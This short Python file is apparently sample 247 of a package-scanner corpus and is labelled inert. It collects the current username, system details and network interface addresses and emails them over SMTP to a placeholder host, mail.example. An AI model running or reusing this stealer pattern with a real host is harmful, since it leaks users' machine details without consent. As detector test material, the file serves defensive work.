# pkgguard corpus 247 (system-information), modelled on [stealer-profile]; inert, never run.
import getpass
import platform
import smtplib

import psutil

report = [getpass.getuser(), " ".join(platform.uname())]
for nic, addrs in psutil.net_if_addrs().items():
    report.append(f"{nic} {[a.address for a in addrs]}")
with smtplib.SMTP_SSL("mail.example", 465) as s:
    s.login("u@mail.example", "placeholder")
    s.sendmail("u@mail.example", ["d@mail.example"], "\n".join(report))
